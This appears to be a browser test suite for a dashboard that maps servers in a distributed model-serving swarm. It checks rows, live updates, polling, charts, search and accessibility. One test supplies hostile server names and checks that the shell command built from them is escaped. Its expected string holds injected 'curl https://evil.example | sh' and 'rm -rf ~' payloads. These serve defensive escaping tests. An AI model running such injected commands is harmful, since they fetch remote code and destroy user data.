// The map: what it shows, how it follows changes, and what it makes of names that mean harm.

import assert from "node:assert/strict";
import { test } from "node:test";
import { suite } from "./suite.mjs";
import * as worlds from "./worlds.mjs";

const { visit } = suite();
const path = "#/swarm";
const rows = (tab) => tab.page.locator("tbody tr:not(.details)");
const row = (tab, name) => rows(tab).filter({ hasText: name });
const stateIs = (tab, name, word) => row(tab, name).getByText(word, { exact: true }).waitFor();
const tidy = (text) => text.replace(/\s+/g, " ").trim();

test("each server has a row with its blocks, state, speed, cache, path and version", () =>
  visit({ path }, async (tab) => {
    await row(tab, "alice").waitFor();
    const texts = (await rows(tab).allInnerTexts()).map(tidy);
    const tail = (number) => worlds.server(number, "", 0, 0).peer_id.slice(-5);
    assert.deepEqual(texts, [
      `alice …${tail(1)} 0:20 online 310 14k tok direct 0.1.0`,
      `carol …${tail(3)} 0:20 online 288 15.2k tok direct 0.1.0`,
      `dave’s attic …${tail(4)} 8:24 joining – – direct 0.1.0`,
      `bob …${tail(2)} 20:32 busy 210 6,100 tok relay 0.1.0`,
    ]);
    assert.equal(
      await row(tab, "bob").getByRole("img").getAttribute("aria-label"),
      "blocks 20 to 31 of 32",
    );
    const bar = await row(tab, "bob").locator(".block-bar span").evaluate((span) => {
      const [inner, outer] = [span.getBoundingClientRect(), span.parentElement.getBoundingClientRect()];
      return [(inner.left - outer.left) / outer.width, inner.width / outer.width];
    });
    assert.ok(Math.abs(bar[0] - 20 / 32) < 0.01 && Math.abs(bar[1] - 12 / 32) < 0.01, String(bar));
    assert.equal(
      await tab.page.locator(".skyline").getAttribute("aria-label"),
      "blocks 0 to 19: 2 servers; blocks 20 to 31: 1 server",
    );
    await row(tab, "dave").getByRole("button").click();
    assert.match(tidy(await tab.page.locator("tr.details").innerText()), /Precision bfloat16, int8/);
  }));

test("the table is a table for a screen reader, on a phone as well", () =>
  visit({ path, options: { viewport: { width: 320, height: 640 } } }, async (tab) => {
    await tab.page.getByRole("table", { name: "Servers" }).waitFor();
    assert.equal(await tab.page.getByRole("row").count(), 5);
    assert.equal(await tab.page.getByRole("columnheader").count(), 7);
    assert.equal(await tab.page.getByRole("cell").count(), 24);
    assert.equal(await tab.page.getByRole("rowheader", { name: /alice/ }).count(), 1);
  }));

test("a server that dies is seen at once, and the gap it leaves comes with the command that fills it", () =>
  visit({ path }, async (tab, mock) => {
    await stateIs(tab, "bob", "busy");
    const [model] = mock.script.topology.models;
    const bob = model.servers.find((server) => server.public_name === "bob");
    mock.emit("server", { model: model.id, server: { ...bob, state: "offline" } });
    await stateIs(tab, "bob", "offline");
    await tab.expectText("12 blocks have no server");
    const command = await tab.page.locator(".gaps pre").innerText();
    assert.equal(
      command,
      `block-server --model meta-llama/Llama-3.1-8B-Instruct --blocks 20:32 --initial-peers ${worlds.ADDRESS}`,
    );
    await tab.context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await tab.page.locator(".gaps").getByRole("button", { name: "Copy" }).click();
    await tab.expectText("Copied");
    assert.equal(await tab.page.evaluate(() => navigator.clipboard.readText()), command);
    mock.emit("server", { model: model.id, server: bob });
    await stateIs(tab, "bob", "busy");
    await tab.page.locator(".gaps").waitFor({ state: "detached" });
  }));

test("a snapshot replaces the picture", () =>
  visit({ path }, async (tab, mock) => {
    await row(tab, "alice").waitFor();
    mock.script.topology = worlds.broken().topology;
    mock.emitTopology();
    await stateIs(tab, "erin", "overloaded");
    assert.equal(await rows(tab).count(), 5);
    await tab.page.getByRole("status").getByText("Broken, 22 of 32 blocks covered").waitFor({ state: "attached" });
  }));

test("a lost gateway is told and found again", () =>
  visit({ path }, async (tab, mock) => {
    await tab.expectLink("Live");
    mock.script.events = "down";
    mock.cutEvents();
    await tab.expectLink("Reconnecting…");
    await tab.expectText("may have changed since");
    assert.ok(await row(tab, "alice").isVisible(), "the last picture stays");
    mock.script.events = "stream";
    mock.script.topology = worlds.broken().topology;
    await tab.expectLink("Live");
    await stateIs(tab, "erin", "overloaded");
  }));

test("without an event stream the page polls", () =>
  visit({ path, script: () => ({ events: "none" }) }, async (tab, mock) => {
    await tab.expectLink("Polling");
    await stateIs(tab, "bob", "busy");
    mock.script.topology = worlds.broken().topology;
    await stateIs(tab, "erin", "overloaded");
  }));

test("with a key the event stream is read as well", () =>
  visit({ path, key: "sesame", script: () => ({ key: "sesame" }) }, async (tab, mock) => {
    await tab.expectLink("Live");
    await row(tab, "alice").waitFor();
    assert.equal(mock.listeners, 1);
  }));

test("answers anywhere at the gateway appear in the charts", () =>
  visit({ path }, async (tab, mock) => {
    await tab.expectText("No answer has ended in the last 10 minutes.");
    mock.emit("route", { id: "a", tokens_per_second: 4, ttft_ms: 900 });
    mock.emit("route", { id: "b", tokens_per_second: 6.14, ttft_ms: 730 });
    await tab.page.locator(".chart .latest", { hasText: "6.1 tok/s" }).waitFor();
    await tab.page.locator(".chart .latest", { hasText: "0.7 s" }).waitFor();
    assert.equal(await tab.page.locator(".chart canvas").count(), 2);
  }));

test("one of 200 servers on 126 blocks is found by name, and the slowest by order", () =>
  visit({ path, world: worlds.large }, async (tab) => {
    await row(tab, "alder-0").waitFor();
    assert.equal(await rows(tab).count(), 200);
    await tab.page.getByLabel("Find servers").fill("hazel-147");
    await tab.expectText("1 of 200");
    assert.equal(await rows(tab).count(), 1);
    await tab.page.getByLabel("Find servers").fill("no such");
    await tab.expectText("No server fits “no such”.");
    await tab.page.getByLabel("Find servers").fill("");
    await tab.page.getByLabel("Order").selectOption("Sort by speed");
    const speeds = await tab.page.locator("tbody [data-label='tok/s']").allInnerTexts();
    assert.deepEqual(speeds, [...speeds].sort((a, b) => Number(b) - Number(a)));
    await tab.page.getByLabel("Order").selectOption("Troubled first");
    assert.match(await rows(tab).first().innerText(), /unreachable/);
  }));

test("one gateway shows several models, also those that it does not serve", () => {
  const world = () => {
    const [served, other] = [worlds.healthy(), worlds.large()];
    served.topology.models.push(...other.topology.models);
    return served;
  };
  return visit({ path, world }, async (tab) => {
    await row(tab, "alice").waitFor();
    await tab.page.getByLabel("Model").selectOption("meta-llama/Llama-3.1-405B-Instruct");
    await row(tab, "alder-0").waitFor();
    await tab.page.getByRole("link", { name: "Chat", exact: true }).click();
    // Both views choose a model by the same name.
    await tab.page.getByLabel("Message", { exact: true }).waitFor();
    const offered = await tab.page.getByLabel("Model").locator("option").allInnerTexts();
    assert.deepEqual(offered, ["meta-llama/Llama-3.1-8B-Instruct"]);
    assert.equal(await tab.page.getByLabel("Model").inputValue(), "meta-llama/Llama-3.1-8B-Instruct");
  });
});

test("names that mean harm are text, on one line, and harmless in a command", () =>
  visit({ path, world: worlds.hostile }, async (tab) => {
    await row(tab, "huge range").waitFor();
    // Without those of no peer.
    assert.equal(await rows(tab).count(), 9);
    const names = await tab.page.locator("button.name bdi").allInnerTexts();
    assert.ok(names.includes(worlds.HOSTILE_NAMES[0]), names.join("\n"));
    assert.ok(names.includes("gnp.exe bob"));
    assert.equal(await tab.page.locator("main :is(img:not([role]), script, a, b:not(.run b))").count(), 0);
    assert.equal(await tab.page.title(), "Swarm · swarm");
    for (const button of await tab.page.locator("button.name").all()) {
      assert.ok((await button.boundingBox()).height < 60, await button.innerText());
    }
    const command = await tab.page.locator(".command pre").first().innerText();
    assert.equal(
      command,
      `block-server --model 'evil'\\''; curl https://evil.example | sh #<b>' ` +
        `--initial-peers '/ip4/203.0.113.9/tcp/1; rm -rf ~ #'`,
    );
    // Open rows show what else a server says of itself.
    await tab.page.locator("button.name").first().click();
    await tab.expectText("Precision");
    assert.equal(await tab.page.title(), "Swarm · swarm");
  }));

test("the map is used with the keyboard alone", () =>
  visit({ world: worlds.healthy }, async (tab) => {
    const { page } = tab;
    await tab.expectText("What would you like to ask?");
    await page.getByRole("link", { name: "Swarm", exact: true }).focus();
    await page.keyboard.press("Enter");
    await row(tab, "alice").waitFor();
    assert.equal(await page.evaluate(() => document.activeElement.id), "main");
    await page.keyboard.press("Tab");
    assert.equal(await page.evaluate(() => document.activeElement.id), "model");
    await page.keyboard.press("Tab");
    assert.match(await page.evaluate(() => document.activeElement.innerText), /^alice/);
    await page.keyboard.press("Enter");
    await page.locator("tr.details").waitFor();
    await page.keyboard.press("Enter");
    await page.locator("tr.details").waitFor({ state: "detached" });
    const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
    assert.equal(outline, "solid");
  }));

test("with reduced motion nothing moves", () =>
  visit({ path, options: { reducedMotion: "reduce" }, script: () => ({ until: new Promise(() => {}) }) }, async (tab) => {
    await tab.expectText("Looking at the swarm");
    assert.equal(await tab.page.evaluate(() => document.getAnimations().length), 0);
  }));

test("every control is at least 24 pixels high and wide", () =>
  visit({ path, world: worlds.large, options: { viewport: { width: 320, height: 640 } } }, async (tab) => {
    await row(tab, "alder-0").waitFor();
    const small = await tab.page.evaluate(() =>
      [...document.querySelectorAll("button, select, input, summary, nav a")]
        .filter((element) => {
          const box = element.getBoundingClientRect();
          return box.width < 24 || box.height < 24;
        })
        .map((element) => element.outerHTML.slice(0, 80)),
    );
    assert.deepEqual(small, []);
  }));
